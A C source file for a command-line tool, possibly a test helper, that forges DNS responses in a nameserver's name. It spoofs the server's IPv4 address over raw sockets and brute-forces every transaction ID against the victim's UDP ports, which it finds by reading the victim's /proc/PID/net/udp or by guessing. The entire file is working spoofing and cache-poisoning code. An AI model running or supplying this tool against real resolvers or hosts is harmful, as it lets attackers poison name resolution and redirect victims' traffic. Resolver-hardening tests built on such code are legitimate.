/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Forges answers in a nameserver's name, with every id in turn, for some seconds.
 *
 *   forger SERVER4 VICTIM4 SECONDS raw|plain [SOCKETS [UID]] <message
 *
 * raw    with the server's address as the source (CAP_NET_RAW)
 * plain  from a socket of its own, as anybody can
 * SOCKETS is the victim's /proc/PID/net/udp: the ports of its sockets (those of the user UID alone, if one is given) that are
 * connected to the server. Without it ports are guessed. Prints how many were sent, and to how many ports.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define PORT_DNS    53
#define MESSAGE_MAX 512
#define BURST	    2048 /* ids for a port, before the ports are looked up anew */
#define PORTS_MAX   64

struct packet {
	struct iphdr ip;
	struct udphdr udp;
	uint8_t message[MESSAGE_MAX];
} __attribute__((packed));

static struct packet packet;
static size_t message_len;
static int fd;
static bool raw;
static uint64_t n_sent;

static void send_burst(uint16_t port)
{
	static uint16_t id; /* goes on: all are tried in the end */
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_addr.s_addr = packet.ip.daddr,
				  .sin_port = htons(port) };
	size_t skipped = raw ? 0 : offsetof(struct packet, message);

	packet.udp.dest = htons(port);
	for (unsigned int i = 0; i < BURST; i++, id++) {
		packet.message[0] = (uint8_t)(id >> 8);
		packet.message[1] = (uint8_t)id;
		n_sent += sendto(fd, (uint8_t *)&packet + skipped,
				 offsetof(struct packet, message) + message_len - skipped, 0,
				 (const struct sockaddr *)&to, sizeof(to)) >= 0;
	}
}

static unsigned int look_up(const char *path, const char *user, uint16_t ports[PORTS_MAX])
{
	FILE *file = fopen(path, "r");
	unsigned int n = 0, local_port, remote, remote_port, uid;
	char line[512];

	if (!file)
		return 0;
	while (n < PORTS_MAX && fgets(line, sizeof(line), file))
		if (sscanf(line, "%*u: %*x:%x %x:%x %*x %*x:%*x %*x:%*x %*x %u", &local_port,
			   &remote, &remote_port, &uid) == 4 &&
		    remote == packet.ip.saddr && remote_port == PORT_DNS &&
		    (!user || uid == (unsigned int)atoi(user)))
			ports[n++] = (uint16_t)local_port;
	fclose(file);
	return n;
}

static void fill(const char *server, const char *victim)
{
	ssize_t len = read(STDIN_FILENO, packet.message, sizeof(packet.message));

	message_len = len > 0 ? (size_t)len : 0;
	packet.ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP };
	inet_pton(AF_INET, server, &packet.ip.saddr);
	inet_pton(AF_INET, victim, &packet.ip.daddr);
	packet.ip.tot_len = htons((uint16_t)(offsetof(struct packet, message) + message_len));
	packet.udp.source = htons(PORT_DNS);
	packet.udp.len = htons((uint16_t)(sizeof(packet.udp) + message_len));
}

int main(int argc, char **argv)
{
	uint16_t ports[PORTS_MAX];
	unsigned int n_ports = 0;
	time_t end;

	if (argc < 5)
		return 2;
	raw = strcmp(argv[4], "raw") == 0;
	fill(argv[1], argv[2]);
	fd = raw ? socket(AF_INET, SOCK_RAW, IPPROTO_RAW) : socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0)
		return 1;
	puts("forging");
	fflush(stdout);
	for (end = time(NULL) + atoi(argv[3]); time(NULL) < end;) {
		unsigned int n = argc > 5 ? look_up(argv[5], argc > 6 ? argv[6] : NULL, ports) : 1;

		for (unsigned int i = 0; i < n; i++)
			send_burst(argc > 5 ? ports[i] : (uint16_t)(10240 + rand() % 22528));
		n_ports += n;
		if (n == 0)
			usleep(1000);
	}
	printf("sent=%llu ports=%u\n", (unsigned long long)n_sent, n_ports);
	return 0;
}
